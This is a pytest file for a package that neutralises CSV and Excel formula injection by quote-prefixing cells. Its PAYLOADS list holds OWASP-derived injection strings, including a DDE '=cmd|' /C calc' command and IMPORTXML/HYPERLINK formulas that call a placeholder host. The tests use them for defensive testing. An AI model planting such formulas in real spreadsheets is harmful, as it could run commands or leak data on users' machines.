"""Tests for cxtemplate.data.spreadsheet: no cell the package writes is a live formula (OWASP's CSV-injection
rule, https://owasp.org/www-community/attacks/CSV_Injection), numbers stay numbers, and a file with nothing to
neutralise is what pandas would have written."""

from __future__ import annotations

import csv
import io
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from cxtemplate.data.spreadsheet import needs_neutralising, safe_cell, safe_frame, write_csv, write_xlsx

# payloads from OWASP's page and the adversarial pass, and their relatives
PAYLOADS = [
    "=cmd|' /C calc'!A0", "+SUM(1)", "-1+1", "@SUM(1)", '=HYPERLINK("http://x","y")', "\t=1+1", "\tplain text after a tab",
    "\r=1+1", "\rtext after a carriage return", " =1+1", "\n=1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1+1",
    "＠SUM(1)", "=1+1\n", '=IMPORTXML(CONCAT("http://x/?", A1), "//a")', "-@SUM(A1)", "+44 7700 900123", "--1", "-",
]
SAFE = ["Fix it", "", "a = b", "1+1", "'=already quoted", "O'Brien", "-1", "-12.5", "+3", "-1,000", "-5%", "1e-5",
        "2025-12-01", "#1 priority", "(=1+1)"]


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_text_is_prefixed_with_a_quote(payload):
    assert needs_neutralising(payload)
    assert safe_cell(payload) == "'" + payload
    assert safe_cell(safe_cell(payload)) == "'" + payload  # idempotent


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_text_and_plain_numbers_written_as_text_are_untouched(text):
    assert not needs_neutralising(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-3.5, -1, 0, np.int64(-7), np.float64(-0.25), True, None, np.nan, pd.NA,
                                   pd.Timestamp("2025-01-01"), b"=bytes"])
def test_values_that_are_not_text_are_untouched(value):
    out = safe_cell(value)
    assert out is value or (isinstance(value, float) and np.isnan(out))


def test_safe_frame_keeps_dtypes_and_neutralises_column_names_and_categories():
    df = pd.DataFrame({"n": [-1, 2], "x": [-1.5, np.nan], "when": pd.to_datetime(["2025-01-01", None]),
                       "txt": ["=1+1", "ok"], "cat": pd.Categorical(["@a", "b"]), "s": pd.array(["-1+1", None], dtype="string"),
                       "=evil": ["a", "b"]})
    out = safe_frame(df)
    assert out["n"].dtype == df["n"].dtype and out["x"].dtype == df["x"].dtype and out["when"].dtype == df["when"].dtype
    assert out["txt"].tolist() == ["'=1+1", "ok"]
    assert out["cat"].tolist() == ["'@a", "b"]
    assert out["s"].tolist()[0] == "'-1+1" and pd.isna(out["s"].tolist()[1])
    assert "'=evil" in out.columns and "=evil" not in out.columns
    assert df["txt"].tolist() == ["=1+1", "ok"]  # the input is not changed


def _frame(col: str, payloads) -> pd.DataFrame:
    return pd.DataFrame({"n": range(len(payloads)), col: payloads, "amount": [-float(i) for i in range(len(payloads))]})


@pytest.mark.parametrize("col", ["comment", "agent_id", "owner", "contact_name"])
def test_no_xlsx_cell_from_data_is_a_formula(tmp_path, col):
    """The workbook's sheet XML holds no <f> element; every payload reads back as the text it was, a text cell
    with Excel's quotePrefix (the hidden single quote); negative amounts are still numbers."""
    path = write_xlsx(tmp_path / "out.xlsx", {"Register": _frame(col, PAYLOADS), "=HYPERLINK(\"x\")": _frame(col, SAFE)})
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    wb = openpyxl.load_workbook(path)
    ws = wb["Register"]
    header = [c.value for c in ws[1]]
    cells = [r[header.index(col)] for r in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS]  # XML reads a CR as a line feed
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert 'quotePrefix="1"' in zipfile.ZipFile(path).read("xl/styles.xml").decode()
    assert all(r[header.index("amount")].data_type == "n" for r in ws.iter_rows(min_row=2))
    assert [r[header.index("amount")].value for r in ws.iter_rows(min_row=2)][1] == -1
    other = wb[wb.sheetnames[1]]
    assert all(c.data_type != "f" for row in other.iter_rows() for c in row)
    assert not any(c.quotePrefix for row in other.iter_rows(min_row=2) for c in row)  # ordinary text: no style
    assert wb.sheetnames[1] == '=HYPERLINK("x")'  # a sheet name is never evaluated


def test_a_tz_aware_column_is_written_without_its_zone_and_headers_are_styled(tmp_path):
    df = pd.DataFrame({"when": pd.to_datetime(["2025-12-01 10:00"]).tz_localize("UTC"), "x": ["a"]})
    path = write_xlsx(tmp_path / "deep" / "w.xlsx", df)
    ws = openpyxl.load_workbook(path)["Sheet1"]
    assert ws["A2"].value == pd.Timestamp("2025-12-01 10:00") and ws["A1"].font.bold and ws.freeze_panes == "A2"


@pytest.mark.parametrize("col", ["comment", "agent_id", "owner", "contact_name"])
def test_no_csv_field_from_data_can_start_a_formula(tmp_path, col):
    """Every field read back by Python's csv module (as a spreadsheet splits the file) starts with the quote when
    the text was a formula, and the neutralised fields are enclosed in double quotes in the file."""
    path = write_csv(_frame(col, PAYLOADS), tmp_path / "out.csv")
    raw = path.read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows[0] == ["n", col, "amount"]
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    for r in rows:
        for field in r:
            assert not needs_neutralising(field), field
    for p in PAYLOADS:
        assert '"' + ("'" + p).replace('"', '""') + '"' in raw
    assert [r[2] for r in rows[1:3]] == ["-0.0", "-1.0"]  # written as pandas writes numbers, unquoted
    assert ",-1.0\n" in raw


def test_a_carriage_return_inside_a_field_cannot_start_a_row(tmp_path):
    """Python's csv module leaves a bare carriage return unquoted (with a "\\n" line terminator); a spreadsheet starts
    a new row there, and the next "cell" could be a formula. write_csv quotes the field."""
    df = pd.DataFrame({"comment": ["fine\r=cmd|' /C calc'!A0", "ok"]})
    path = write_csv(df, tmp_path / "cr.csv")
    raw = path.read_bytes().decode()
    assert raw == 'comment\n"fine\r=cmd|\' /C calc\'!A0"\nok\n'
    assert pd.read_csv(path)["comment"].tolist() == ["fine\r=cmd|' /C calc'!A0", "ok"]  # one cell, one row


def test_a_csv_with_nothing_to_neutralise_is_what_pandas_writes(tmp_path):
    df = pd.DataFrame({"a": [1.5, np.nan, -2.0], "b": ["x", None, 'say "hi"'], "c": ["p\nq", "a,b", ""],
                       "d": pd.to_datetime(["2024-01-01", None, "2024-01-02"]), "e": [True, False, True],
                       "f": pd.array([1, None, 3], dtype="Int64")})
    path = write_csv(df, tmp_path / "same.csv")
    assert path.read_text(encoding="utf-8") == df.to_csv(index=False, lineterminator="\n")
    one = pd.DataFrame({"only": ["", None, "x"]})
    assert write_csv(one, tmp_path / "one.csv").read_text() == one.to_csv(index=False, lineterminator="\n")
    assert write_csv(pd.DataFrame(), tmp_path / "empty.csv").read_text() == pd.DataFrame().to_csv(index=False)


def test_write_csv_can_write_the_index(tmp_path):
    df = pd.DataFrame({"x": [1]}, index=pd.Index(["=idx"], name="key"))
    back = pd.read_csv(write_csv(df, tmp_path / "i.csv", index=True))
    assert back.to_dict("list") == {"key": ["'=idx"], "x": [1]}
